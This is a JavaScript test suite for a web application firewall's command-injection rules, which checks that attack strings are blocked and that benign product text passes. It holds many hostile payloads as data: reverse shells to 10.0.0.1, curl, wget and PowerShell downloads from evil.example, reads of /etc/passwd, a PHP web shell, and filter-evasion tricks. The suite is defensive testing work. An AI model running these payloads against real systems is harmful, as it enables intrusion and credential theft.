import { expect } from 'chai';
import { findMissed, listRules, findWronglyBlocked } from './helpers.js';

const ATTACKS = [
  '; ls -la',
  '| cat /etc/passwd',
  '&& whoami',
  '|| id',
  '`id`',
  '$(whoami)',
  '; sleep 5',
  '| nc -e /bin/sh 10.0.0.1 4444',
  '; curl http://evil.example/x.sh | sh',
  '& ping -c 10 127.0.0.1 &',
  ';wget http://evil.example/y -O /tmp/y',
  '%0acat /etc/passwd',
  '$(sleep 5)',
  ';${IFS}cat${IFS}/etc/passwd',
  '| powershell -c whoami',
  '& dir c:\\',
  '1;uname -a',
  '127.0.0.1; id',
  '127.0.0.1 && cat /etc/hosts',
  'x|whoami',
  ';bash -i >& /dev/tcp/10.0.0.1/8080 0>&1',
  '; /usr/bin/id',
  '"; cat /etc/passwd; "',
  "';cat /etc/passwd;'",
  '<!--#exec cmd="ls"-->',
  'a;netstat -an',
  'test`sleep 5`',
  '$(curl http://evil.example/)',
  '| whoami',
  '127.0.0.1|ls',
  "<?php system($_GET['c']); ?>",
  ";system('id')",
  '/bin/ls -al',
  'ping -n 30 127.0.0.1',
  "'uname'",
  'whoami',
  'id;',
  '+|+dir+c:/',
];

const LOOK_ALIKES = [
  'Shoes; socks; laundry bag',
  'Please leave the parcel at the door; thanks!',
  'Echo Dot (5th Gen) | Alexa',
  'Rock & Roll',
  'Salt & Pepper grinder set',
  'Kitten & cat',
  'cat & dog toys',
  'Rest & sleep pillow',
  'Eat; sleep; repeat t-shirt',
  'Name & ID required',
  'Shoes | socks | hats',
  'Hair & curl cream',
  'Python crash course (book)',
  'Ruby red slippers',
  'Bash party decorations',
  'ping pong table',
  'tail light; head lamp',
  'find my order',
  'id',
  'sort by: newest',
  'Price: $19.99 - 20% off',
  'Table & 4 chairs (oak)',
  'Buy 2, get 1 free; limited offer',
  'AT&T compatible phone case',
  'Mr. & Mrs. wedding sign',
  'Q&A: how to choose a size?',
  'color=red&size=M',
  'system of a down t-shirt',
  'Operating system (Windows 11)',
];

describe('waf command injection', () => {
  it('blocks commands after separators, substitutions, binaries and shell tricks', () => {
    expect(findMissed(ATTACKS)).to.deep.equal([]);
  });

  it('passes separators followed by English, and command names used as words', () => {
    expect(findWronglyBlocked(LOOK_ALIKES)).to.deep.equal([]);
  });

  it('expands path globs against the binaries and files injected commands reach', () => {
    for (const v of ['/???/c?t /???/p??s??', 'cat /etc/pa?swd', 'x;/bin/c[a]t /etc/pa[s]swd', '../../e*c/sh?dow', ';/???/??t${IFS}/???/??ss??']) expect(listRules(v, 'rce'), v).to.include('rce.path-glob');
    for (const v of ['What?? /really?? yes', 'Sizes S/M/L* or M/L?', '/*/*', '/products/*/reviews?page=2', 'https://shop.example.com/search?q=a*b', 'Is it 1/2? or 3/4*']) expect(listRules(v, 'rce'), v).to.deep.equal([]);
  });

  it('takes a whole short-tag block <?name ...?> as PHP, not an XML document\'s own instructions', () => {
    for (const v of ['<?Tnn96 ?>', '&lt;?Tnn96 ?&gt;', '<?echo `id`?>', '<?xml version="1.0"?><?php system("id"); ?>']) expect(listRules(v, 'rce'), v).to.include('rce.php-code');
    for (const v of ['<?xml-stylesheet href="a.xsl"?>', '<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><W/>', 'What? Really?>']) expect(listRules(v, 'rce'), v).to.deep.equal([]);
  });

  it('takes powershell with an option as PowerShell, not the word in prose', () => {
    expect(listRules('powershell -nop -w hidden -c x', 'rce')).to.include('rce.powershell');
    expect(listRules('pwsh.exe -NoProfile', 'rce')).to.include('rce.powershell');
    expect(listRules('Learn PowerShell - the book', 'rce')).to.deep.equal([]);
  });

  it('names the technique', () => {
    expect(listRules('; cat /etc/passwd', 'rce')).to.include('rce.chained-command');
    expect(listRules('$(id)', 'rce')).to.include('rce.command-substitution');
    expect(listRules('<!--#include virtual="/etc/passwd"-->', 'rce')).to.include('rce.server-side-include');
  });
});

const SHELL_GRAMMAR = [
  "w'h'o'am'i",
  'wh""oami',
  'w\\ho\\am\\i',
  'who$@ami',
  'una$()me -a',
  'cat /et\\c/sha\\dow',
  'cat ${HOME:0:1}etc${HOME:0:1}group',
  'cat ${x//zz/}/etc/hosts',
  "X=$'\\x69\\x64'&&$X",
  'C=uname;$C',
  'echo id|$0',
  '$(`id`)',
  '$(echo x | base64 -d)',
  'xxd -r -p <<< 2f6574632f686f737473',
  'diff <(ls /) <(ls /tmp)',
  '() { :; }; /bin/bash -c id',
  '<whoami',
  '^whoami',
  'ping%CommonProgramFiles:~10,-18%127.0.0.1',
  '& type %SYSTEMROOT%\\win.ini',
  'reg query "HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion"',
  'p^o^w^e^r^s^h^e^l^l -c whoami',
  'Invoke-WebRequest -Uri http://evil.example/a.ps1 -OutFile a.ps1',
  "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')",
  'powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=',
  'curl https://evil.example/x.sh',
  'wget http://10.0.0.8/payload',
  "ssh '-oProxyCommand=sh -c id' x@y",
];

const SHELL_LOOK_ALIKES = [
  'My "cat" toys',
  "'id' card holder",
  "Rock'n'roll T-shirt",
  'Size ${size}',
  'Price: 5$ + tax, 100% cotton',
  "it's 'find' day",
  'Start-up kit (new!)',
  'The cURL book, 2nd edition',
  'Save 20% on %BRAND% items',
];

describe('waf command injection: shell grammar beyond plain commands', () => {
  it('blocks quoting and escaping tricks, expansions, here-strings, Shellshock, cmd and PowerShell', () => {
    expect(findMissed(SHELL_GRAMMAR)).to.deep.equal([]);
  });

  it('passes quoted words, dollar amounts and percent signs in prose', () => {
    expect(findWronglyBlocked(SHELL_LOOK_ALIKES)).to.deep.equal([]);
  });
});
